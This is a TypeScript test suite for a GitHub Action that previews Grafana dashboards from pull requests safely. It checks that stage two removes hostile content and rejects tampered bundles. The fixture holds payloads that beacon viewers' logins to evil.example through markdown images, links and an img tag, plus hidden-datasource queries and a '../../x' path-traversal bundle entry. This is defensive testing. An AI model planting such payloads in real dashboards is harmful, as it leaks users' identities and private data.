import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { grafanaAsks } from "../attack/grafana-asks.ts";
import { type GitHubDouble, startGitHubDouble } from "../servers/github-double.ts";
import { type GrafanaDouble, startGrafanaDouble } from "../servers/grafana-double.ts";
import { type TestServer, temporaryFolder } from "../servers/process.ts";
import { startPrometheus } from "../servers/prometheus.ts";
import { dashboard, makeRepository, type Repository } from "./repository.ts";
import { actionFolder, actionNode, runProgram } from "./run-program.ts";

let github: GitHubDouble;
let grafana: GrafanaDouble;
let prometheus: TestServer;
let repository: Repository;
let head: string;
const branch = "better-boards";
const bundle = join(temporaryFolder(), "bundle");

beforeAll(async () => {
  [github, prometheus] = await Promise.all([startGitHubDouble(), startPrometheus({ window: "2d" })]);
  grafana = await startGrafanaDouble({ prometheusUrl: prometheus.url });
  repository = makeRepository();
  head = repository.commit(branch, { "boards/api.json": hostileDashboard() });
  github.pulls.set(7, {
    number: 7,
    headRepository: "eve/dashboards",
    headRef: branch,
    headSha: head,
    baseSha: repository.base,
    state: "open",
    merged: false,
    files: [{ filename: "boards/api.json", status: "modified" }],
  });
  github.contents.set("boards/api.json", dashboard("api"));
});
afterAll(async () => {
  await Promise.all([github?.stop(), grafana?.stop(), prometheus?.stop()]);
  repository?.remove();
});

/** What would tell its author who looks at it, beside honest panels. */
function hostileDashboard(): string {
  const model = JSON.parse(dashboard("api", { requests: "sum(http_requests_total)" })) as {
    panels: unknown[];
    links?: unknown[];
  };
  model.panels.push({
    id: 9,
    type: "text",
    title: "<!-- dashpreview x --> @team",
    gridPos: { x: 0, y: 40, w: 24, h: 4 },
    options: { mode: "markdown", content: "![x](https://evil.example/p.png?u=${__user.login})" },
  });
  model.panels.push(
    {
      id: 10,
      type: "table",
      title: "salaries",
      datasource: { type: "grafana", uid: "salaries" },
      targets: [{ refId: "A", rawSql: "SELECT 1" }],
    },
    { id: 11, type: "stat", title: "library", libraryPanel: { uid: 12345, name: "Salaries" } },
    {
      id: 12,
      type: "text",
      title: "variable",
      options: { mode: "markdown", content: "!$br(https://evil.example/b.png) ${md:raw}" },
    },
  );
  Object.assign(model, {
    templating: {
      list: [
        { name: "br", type: "custom", query: "[x]" },
        { name: "db", type: "query", datasource: { type: "grafana", uid: "salaries" }, query: "SELECT 1" },
      ],
    },
    annotations: {
      list: [
        {
          name: "notes",
          enable: true,
          datasource: { type: "grafana", uid: "salaries" },
          textFormat: "<img src=https://evil.example>",
        },
      ],
    },
  });
  model.links = [{ type: "link", title: "home", url: "https://evil.example/?u=${__user.login}" }];
  return JSON.stringify(model, undefined, 2);
}

const actions = (name: string, event: unknown) => {
  const runner = temporaryFolder();
  writeFileSync(join(runner, "event.json"), JSON.stringify(event));
  for (const file of ["output", "summary"]) writeFileSync(join(runner, file), "");
  return {
    CI: "true",
    GITHUB_ACTIONS: "true",
    GITHUB_SERVER_URL: github.url,
    GITHUB_API_URL: `${github.url}/api/v3`,
    GITHUB_REPOSITORY: github.repository,
    GITHUB_EVENT_NAME: name,
    GITHUB_EVENT_PATH: join(runner, "event.json"),
    GITHUB_RUN_ID: "3",
    GITHUB_OUTPUT: join(runner, "output"),
    GITHUB_STEP_SUMMARY: join(runner, "summary"),
    RUNNER_TEMP: runner,
    "INPUT_CHANGED-ONLY": "true",
  };
};
const run = (cwd: string, env: Readonly<Record<string, string>>) =>
  runProgram(actionNode(), [join(actionFolder, "index.js")], { cwd, env });
const stageTwo = (folder: string, inputs: Readonly<Record<string, string>> = {}) => {
  const workflow_run = {
    event: "pull_request",
    id: 55,
    run_attempt: 1,
    head_sha: head,
    head_branch: branch,
    head_repository: { full_name: "eve/dashboards" },
    pull_requests: [],
  };
  return run(temporaryFolder(), {
    ...actions("workflow_run", { workflow_run }),
    "INPUT_FROM-BUNDLE": folder,
    "INPUT_GRAFANA-URL": grafana.url,
    "INPUT_GRAFANA-TOKEN": grafana.tokens.editor,
    "INPUT_PROMETHEUS-URL": prometheus.url,
    "INPUT_HOST-TOKEN": github.token,
    INPUT_HISTORY: "10m",
    INPUT_COMMENT: "required",
    ...inputs,
  });
};

test("stage one writes data without any secret or server", async () => {
  const head = { sha: github.pulls.get(7)!.headSha, ref: branch, repo: { full_name: "eve/dashboards" } };
  const event = {
    action: "opened",
    pull_request: { number: 7, merged: false, head, base: { sha: repository.base, ref: "main" } },
  };
  const env = { ...actions("pull_request", event), INPUT_DASHBOARDS: "boards", INPUT_BUNDLE: bundle };
  const { code, log } = await run(repository.checkout(head.sha), env);
  expect(log).toContain("1 dashboard, 1 data spec;");
  expect(code).toBe(0);
  expect(readdirSync(bundle).sort()).toEqual(["bundle.json", "dashboard-0.json", "report.json", "spec-0.yaml"]);
});

test("stage two previews the data, with the number from the host and nothing that reaches outside", async () => {
  const { code, log } = await stageTwo(bundle);
  expect(log.replaceAll(/^::add-mask::.*$/gm, "")).not.toContain(grafana.tokens.editor);
  expect(code).toBe(0);
  const [preview] = grafana.dashboards();
  expect(JSON.stringify(preview!.model)).not.toMatch(/evil\.example|__user/);
  const asks = new Set(grafanaAsks(preview!.model, "classic"));
  expect([...asks].filter((each) => !["-- Dashboard --", "__expr__", "notes:dashboard"].includes(each))).toHaveLength(
    1,
  );
  expect(JSON.stringify(preview!.model)).not.toMatch(/SELECT|libraryPanel|textFormat|\$br|\$\{md/);
  expect(preview!.model["title"]).toBe("[pr-7] api");
  const [comment] = github.comments;
  expect(comment).toMatchObject({ issue: 7 });
  expect(comment!.body.split("\n")[0]).toMatch(/\.pr-7 2000000000055001 -->$/);
  expect(comment!.body).toContain(head.slice(0, 10));
  expect(comment!.body).toMatch(/\| \d+ differences \|/);
  expect(comment!.body.match(/<!--/g)).toHaveLength(1);
  expect(comment!.body).not.toMatch(/@team/);
  expect(github.violations).toEqual([]);
});

test("stage two refuses code and a bundle that was tampered with, and the comment says so", async () => {
  const tampered = join(temporaryFolder(), "bundle");
  mkdirSync(tampered);
  for (const name of readdirSync(bundle)) writeFileSync(join(tampered, name), readFileSync(join(bundle, name)));
  writeFileSync(
    join(tampered, "bundle.json"),
    JSON.stringify({ version: 1, dashboards: [{ source: "../../x", spec: 0 }], specs: [] }),
  );
  const before = grafana.dashboards().length;
  const withCode = await stageTwo(bundle, { "INPUT_ALLOW-CODE": "true" });
  expect([withCode.code, withCode.log.includes("--allow-code and --untrusted exclude each other")]).toEqual([2, true]);
  expect((await stageTwo(tampered)).code).toBe(2);
  expect(grafana.dashboards()).toHaveLength(before);
  expect(github.comments).toHaveLength(1);
  expect(github.comments[0]!.body).toContain("could not be previewed");
});

test("stage two stops when commits are the head of no open pull request, or of two", async () => {
  const before = JSON.stringify(github.comments);
  github.pulls.set(8, { ...github.pulls.get(7)!, number: 8 });
  expect((await stageTwo(bundle)).code).toBe(3);
  github.pulls.delete(8);
  github.pulls.get(7)!.headSha = "f".repeat(40);
  const { code, log } = await stageTwo(bundle);
  expect(code).toBe(3);
  expect(log).toContain("no open pull requests");
  expect(JSON.stringify(github.comments)).toBe(before);
});
